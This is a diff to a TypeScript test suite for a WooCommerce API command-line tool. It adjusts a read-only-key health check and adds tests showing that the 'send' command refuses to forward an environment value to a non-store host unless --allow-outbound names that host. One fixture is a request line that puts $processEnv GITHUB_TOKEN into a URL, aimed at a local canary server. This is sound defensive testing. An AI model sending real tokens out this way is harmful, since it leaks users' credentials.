@@ -308,14 +308,62 @@ describe('woo-api doctor', () => {
     assert.ok(!stripped.stdout.includes(rw.consumer_secret) && !stripped.stderr.includes(rw.consumer_secret));
   });
 
-  it('a read-only key is healthy once WOO_STORE_*_PERMISSIONS says so, and the read-only cause without it', async () => {
+  it('a read-only key is a fact (exit 0) unless the store says it must write (WOO_STORE_*_PERMISSIONS=read_write: exit 1)', async () => {
     const read = seed.keys.find((k: { permissions: string }) => k.permissions === 'read');
     const keys = (s: import('../../src/sandbox').RunningSandbox) => ({ WOO_STORE_SHOP_URL: s.httpsUrl, WOO_STORE_SHOP_CONSUMER_KEY: read.consumer_key, WOO_STORE_SHOP_CONSUMER_SECRET: read.consumer_secret });
     const undeclared = await doctor({}, keys);
-    assert.strictEqual(undeclared.status, 1);
-    assert.strictEqual(JSON.parse(undeclared.stdout).cause, 'read-only-key');
+    assert.strictEqual(undeclared.status, 0, undeclared.stdout.slice(0, 500));
+    const report = JSON.parse(undeclared.stdout);
+    assert.strictEqual(report.cause, undefined);
+    assert.strictEqual(report.readOnlyKey, true);
+    assert.match(report.summary, /The key is read-only: reads work, writes are refused/);
+    const mustWrite = await doctor({}, (s) => ({ ...keys(s), WOO_STORE_SHOP_PERMISSIONS: 'read_write' }));
+    assert.strictEqual(mustWrite.status, 1);
+    assert.strictEqual(JSON.parse(mustWrite.stdout).cause, 'read-only-key');
     const declared = await doctor({}, (s) => ({ ...keys(s), WOO_STORE_SHOP_PERMISSIONS: 'read' }));
     assert.strictEqual(declared.status, 0, declared.stdout.slice(0, 500));
     assert.match(JSON.parse(declared.stdout).summary, /read-only as declared/);
+  });
+});
+
+describe('woo-api send: values from the machine to a host that is not a store', () => {
+  let server: import('http').Server;
+  let port: number;
+  let hits: string[];
+  let dir: string;
+  before(async () => {
+    const http = await import('http');
+    server = http.createServer((req, res) => { hits.push(req.url ?? ''); res.end('{}'); });
+    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+    port = (server.address() as { port: number }).port;
+    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'woo-cli-outbound-'));
+    fs.writeFileSync(path.join(dir, 'leak.http'), `GET http://127.0.0.1:${port}/x?t={{$processEnv GITHUB_TOKEN}}\n`);
+  });
+  beforeEach(() => { hits = []; });
+  after(() => new Promise<void>((r) => server.close(() => r())));
+
+  const cli = (args: string[]) => new Promise<{ status: number | null; stdout: string; stderr: string }>((resolve) => {
+    const child = spawn(process.execPath, [CLI, ...args], { env: { ...process.env, GITHUB_TOKEN: 'ghp_cli_canary_0123456789' }, cwd: dir });
+    let stdout = '';
+    let stderr = '';
+    child.stdout.on('data', (d) => (stdout += d));
+    child.stderr.on('data', (d) => (stderr += d));
+    child.on('exit', (status) => resolve({ status, stdout, stderr }));
+  });
+
+  it('is not sent without --allow-outbound, and says which value and how to allow it', async () => {
+    const r = await cli(['send', 'leak.http', '--line', '1']);
+    assert.notStrictEqual(r.status, 0);
+    assert.match(r.stderr + r.stdout, /\$processEnv GITHUB_TOKEN from this machine to 127\.0\.0\.1:\d+.*--allow-outbound HOST/s);
+    assert.ok(!(r.stderr + r.stdout).includes('ghp_cli_canary'), 'the value is never printed');
+    assert.deepStrictEqual(hits, []);
+  });
+
+  it('is sent to a host named by --allow-outbound', async () => {
+    const other = await cli(['send', 'leak.http', '--line', '1', '--allow-outbound', 'example.com']);
+    assert.notStrictEqual(other.status, 0, 'another host named: still refused');
+    const r = await cli(['send', 'leak.http', '--line', '1', '--allow-outbound', `example.com,127.0.0.1:${port}`]);
+    assert.strictEqual(r.status, 0, r.stderr);
+    assert.deepStrictEqual(hits, ['/x?t=ghp_cli_canary_0123456789']);
   });
 });
